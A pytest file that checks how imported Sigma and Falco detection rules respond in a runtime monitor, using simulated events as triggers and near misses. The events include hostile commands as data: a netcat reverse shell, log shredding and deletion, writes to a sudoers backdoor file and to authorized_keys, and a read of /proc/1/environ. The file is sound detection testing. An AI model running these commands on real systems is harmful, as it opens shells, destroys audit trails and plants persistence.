"""Imported rules end to end: events that must fire the exact rule, near misses that must not."""

from __future__ import annotations

import itertools

import pytest

from runwatch.events import Container, Event, FileInfo, NetInfo
from runwatch.rules import Engine, load_texts
from runwatch.rules.importers import ImportReport, import_rules
from runwatch.testing.fixtures import fixture_path, require_fixture

SIGMA = fixture_path("sigma-linux", "rules", "linux")
FALCO = fixture_path("falco-rules")
SIGMA_FILES = [
    SIGMA / "file_event/file_event_lnx_persistence_sudoers_files.yml",
    SIGMA / "process_creation/proc_creation_lnx_clear_logs.yml",
    SIGMA / "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
]
FALCO_FILES = [FALCO / "falco_rules.yaml", FALCO / "falco-incubating_rules.yaml"]
CTR = Container(id="4f1c9e0a7b2d", runtime="runc", name="agent-7")


@pytest.fixture(autouse=True, scope="module")
def _corpora() -> None:
    """The rule corpora are needed (skipped without them; failed under CI)."""
    require_fixture(SIGMA, FALCO)


_ids = itertools.count(1)


def ev(kind: str, **kw: object) -> Event:
    n = next(_ids)
    return Event(id=f"e{n}", time=1_700_000_000_000_000_000 + n, kind=kind, pid=4100 + n, **kw)  # type: ignore[arg-type]


def engine_for(report: ImportReport) -> Engine:
    rs = load_texts([(report.to_yaml(), "imported.yaml")])
    assert rs.errors == []
    return Engine(rs)


def fired(engine: Engine, event: Event) -> list[str]:
    return [a.rule for a in engine.process(event)]


@pytest.fixture(scope="module")
def sigma_engine() -> Engine:
    report = import_rules(SIGMA_FILES, "sigma")
    assert [r.status for r in report.rules] == ["loaded"] * 3
    return engine_for(report)


@pytest.fixture(scope="module")
def falco_engine() -> Engine:
    return engine_for(import_rules(FALCO_FILES, "falco"))


def test_sigma_sudoers_write(sigma_engine: Engine) -> None:
    rule = "sigma.file_event_lnx_persistence_sudoers_files"
    hit = ev("file.open", exe="/usr/bin/tee", file=FileInfo(path="/etc/sudoers.d/99-backdoor", intent="write"))
    assert fired(sigma_engine, hit) == [rule]
    # near misses: a read, the dpkg exception, a path beside the directory
    assert fired(sigma_engine, ev("file.open", exe="/usr/bin/cat",
                                  file=FileInfo(path="/etc/sudoers.d/99-backdoor", intent="read"))) == []
    assert fired(sigma_engine, ev("file.open", exe="/usr/bin/dpkg",
                                  file=FileInfo(path="/etc/sudoers.d/README.dpkg-new", intent="write"))) == []
    assert fired(sigma_engine, ev("file.open", exe="/usr/bin/tee",
                                  file=FileInfo(path="/etc/sudoers.dist", intent="write"))) == []


def test_sigma_clear_logs(sigma_engine: Engine) -> None:
    rule = "sigma.proc_creation_lnx_clear_logs"
    assert fired(sigma_engine, ev("process.exec", exe="/usr/bin/shred", cmdline="shred -u /VAR/LOG/auth.log")) == [rule]
    assert fired(sigma_engine, ev("process.exec", exe="/bin/rm", cmdline="rm -rf /var/spool/mail/root")) == [rule]
    # the filter (sysstat cleanup), a different binary, a different directory
    assert fired(sigma_engine, ev("process.exec", exe="/bin/rm", cmdline="rm -f /var/log/sysstat/sa23")) == []
    assert fired(sigma_engine, ev("process.exec", exe="/usr/bin/cat", cmdline="cat /var/log/syslog")) == []
    assert fired(sigma_engine, ev("process.exec", exe="/bin/rm", cmdline="rm -f /tmp/var-log")) == []


def test_sigma_callback_port_cidr_and_initiated(sigma_engine: Engine) -> None:
    rule = "sigma.net_connection_lnx_susp_malware_callback_port"
    out = NetInfo(proto="tcp", family="ipv4", dst_ip="203.0.113.77", dst_port=4444)
    assert fired(sigma_engine, ev("net.connect", exe="/tmp/x", net=out)) == [rule]
    # accepted (Initiated false), private destination, other port
    assert fired(sigma_engine, ev("net.accept", exe="/tmp/x", net=out)) == []
    assert fired(sigma_engine, ev("net.connect", exe="/tmp/x", net=NetInfo(
        proto="tcp", family="ipv4", dst_ip="172.20.3.9", dst_port=4444))) == []
    assert fired(sigma_engine, ev("net.connect", exe="/tmp/x", net=NetInfo(
        proto="tcp", family="ipv4", dst_ip="203.0.113.77", dst_port=4443))) == []


def test_falco_netcat_in_container(falco_engine: Engine) -> None:
    rule = "falco.netcat_remote_code_execution_in_container"
    tool = "falco.launch_suspicious_network_tool_in_container"  # fires on any nc in a container, as in Falco
    hit = ev("process.exec", exe="/usr/bin/nc", cmdline="nc 198.51.100.4 9001 -e /bin/sh", container=CTR)
    assert sorted(fired(falco_engine, hit)) == [tool, rule]
    host = ev("process.exec", exe="/usr/bin/nc", cmdline="nc 198.51.100.4 9001 -e /bin/sh")
    assert fired(falco_engine, host) == ["falco.launch_suspicious_network_tool_on_host"]
    assert fired(falco_engine, ev("process.exec", exe="/usr/bin/nc", cmdline="nc -z 198.51.100.4 9001",
                                  container=CTR)) == [tool]


def test_falco_authorized_keys(falco_engine: Engine) -> None:
    rule = "falco.adding_ssh_keys_to_authorized_keys"
    hit = ev("file.open", exe="/usr/bin/python3", file=FileInfo(path="/home/dev/.ssh/authorized_keys", intent="rw"))
    assert fired(falco_engine, hit) == [rule]
    assert fired(falco_engine, ev("file.open", exe="/usr/sbin/sshd",
                                  file=FileInfo(path="/root/.ssh/authorized_keys", intent="write"))) == []
    assert fired(falco_engine, ev("file.open", exe="/usr/bin/python3",
                                  file=FileInfo(path="/home/dev/.ssh/authorized_keys", intent="read"))) == []


def test_falco_environ_read_in_container(falco_engine: Engine) -> None:
    rule = "falco.read_environment_variable_from_proc_files"
    hit = ev("file.open", exe="/usr/bin/cat", file=FileInfo(path="/proc/1/environ", intent="read"), container=CTR)
    assert fired(falco_engine, hit) == [rule]
    assert fired(falco_engine, ev("file.open", exe="/usr/bin/cat",
                                  file=FileInfo(path="/proc/1/environ", intent="read"))) == []
    assert fired(falco_engine, ev("file.open", exe="/usr/bin/cat",
                                  file=FileInfo(path="/proc/1/cmdline", intent="read"), container=CTR)) == []
